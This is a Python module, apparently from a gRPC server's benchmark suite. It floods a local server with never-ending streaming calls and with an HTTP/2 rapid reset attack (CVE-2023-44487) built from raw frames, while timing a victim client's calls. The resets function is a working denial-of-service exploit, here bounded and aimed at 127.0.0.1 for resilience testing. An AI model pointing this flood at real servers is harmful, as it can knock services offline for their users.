"""Floods over gRPC against a server on this machine, each bounded in number and time, and a victim's calls beside them.

python -m load.floods PORT RESETS_A_SECOND SECONDS      (rapid resets, as a process of its own; from bench)
"""

from __future__ import annotations

import asyncio
import socket
import statistics
import sys
import threading
import time
from contextlib import asynccontextmanager, closing, contextmanager
from typing import TYPE_CHECKING, Any, NamedTuple

import grpc
import grpc.aio

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Callable, Iterator

SCORE = "/spicegraph.v1.EvaluationService/Score"
WATCH = "/grpc.health.v1.Health/Watch"
CHECK = "/grpc.health.v1.Health/Check"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
EACH = 100  # calls of a connection
_OWN = ("grpc.use_local_subchannel_pool", 1)  # a connection for each channel


class Answers(NamedTuple):
    """What became of a victim's calls: their milliseconds, and the codes of those that failed."""

    times: tuple[float, ...]
    failures: tuple[str, ...]

    @property
    def median(self) -> float:
        """Milliseconds of the one in the middle."""
        return statistics.median(self.times) if self.times else float("inf")

    def percentile(self, share: float) -> float:
        """Milliseconds that this share of them took at most."""
        ordered = sorted(self.times)
        return ordered[min(len(ordered) - 1, int(share * len(ordered)))] if ordered else float("inf")


def calls(port: int, token: str, requests: Iterator[bytes], *, count: int, path: str = SCORE) -> Answers:
    """Make calls one after the other, without trying again."""
    times: list[float] = []
    failures: list[str] = []
    metadata = (("authorization", f"Bearer {token}"),) if token else ()
    with grpc.insecure_channel(f"127.0.0.1:{port}", [_OWN, ("grpc.enable_retries", 0)]) as channel:
        call = channel.unary_unary(path)
        for _, request in zip(range(count), requests, strict=False):
            begun = time.monotonic()
            try:
                call(request, timeout=20, metadata=metadata)
                times.append(1000 * (time.monotonic() - begun))
            except grpc.RpcError as error:
                failures.append(error.code().name)
    return Answers(tuple(times), tuple(failures))


def answers(port: int) -> bool:
    """Say whether something listens."""
    with closing(socket.socket()) as probe:
        return probe.connect_ex(("127.0.0.1", port)) == 0


@contextmanager
def beside(flood: Callable[[], Any]) -> Iterator[None]:
    """Keep a flood (an asynchronous context manager) open in a thread of its own."""
    ready, end = threading.Event(), asyncio.Event()
    loops: list[asyncio.AbstractEventLoop] = []

    async def hold() -> None:
        loops.append(asyncio.get_running_loop())
        async with flood():
            ready.set()
            await end.wait()

    thread = threading.Thread(target=lambda: asyncio.run(hold()))
    thread.start()
    try:
        ready.wait(60)
        yield
    finally:
        loops[0].call_soon_threadsafe(end.set)
        thread.join()


@asynccontextmanager
async def open_calls(
    port: int, path: str, count: int, *, token: str = "", request: bytes | None = None
) -> AsyncIterator[None]:
    """Open calls that never end, :data:`EACH` of a connection; without ``request`` nothing but their headers comes."""
    metadata = (("authorization", f"Bearer {token}"),) if token else ()
    channels = [grpc.aio.insecure_channel(f"127.0.0.1:{port}", [_OWN]) for _ in range(-(-count // EACH))]
    sent = asyncio.Event()

    async def requests() -> AsyncIterator[bytes]:
        if request is not None:
            yield request
        await sent.wait()

    opened = [channels[n // EACH].stream_stream(path)(requests(), metadata=metadata) for n in range(count)]

    async def read(call: Any) -> None:
        try:
            async for _ in call:
                pass
        except grpc.RpcError:
            pass  # the server has refused or ended it

    reading = [asyncio.create_task(read(call)) for call in opened]
    await asyncio.sleep(1.5)
    try:
        yield
    finally:
        for call in opened:
            call.cancel()
        await asyncio.gather(*reading, return_exceptions=True)
        for channel in channels:
            await channel.close()


def _header(name: bytes, value: bytes) -> bytes:
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def resets(port: int, rate: float, seconds: float) -> None:
    """Open streams of one connection without a token and reset them at once (CVE-2023-44487), at a rate."""
    headers = b"".join(
        _header(name, value)
        for name, value in (
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", SCORE.encode()),
            (b":authority", b"a"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        )
    )
    begun = time.monotonic()
    connection: socket.socket | None = None
    stream, sent = 1, 0
    while (spent := time.monotonic() - begun) < seconds:
        if connection is None:
            connection = socket.create_connection(("127.0.0.1", port), 5)
            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
            threading.Thread(target=_drain, args=(connection,), daemon=True).start()
            stream = 1
        due = min(200, int(rate * spent) - sent)
        if due <= 0:
            time.sleep(0.001)
            continue
        burst = b""
        for _ in range(due):
            burst += _frame(1, 4, stream, headers) + _frame(3, 0, stream, (8).to_bytes(4, "big"))
            stream += 2
        sent += due
        try:
            connection.sendall(burst)
        except OSError:
            connection = None  # the server has ended it: another one
    print(sent)


def _drain(connection: socket.socket) -> None:
    try:
        while connection.recv(1 << 16):
            pass
    except OSError:
        pass


if __name__ == "__main__":
    resets(int(sys.argv[1]), float(sys.argv[2]), float(sys.argv[3]))
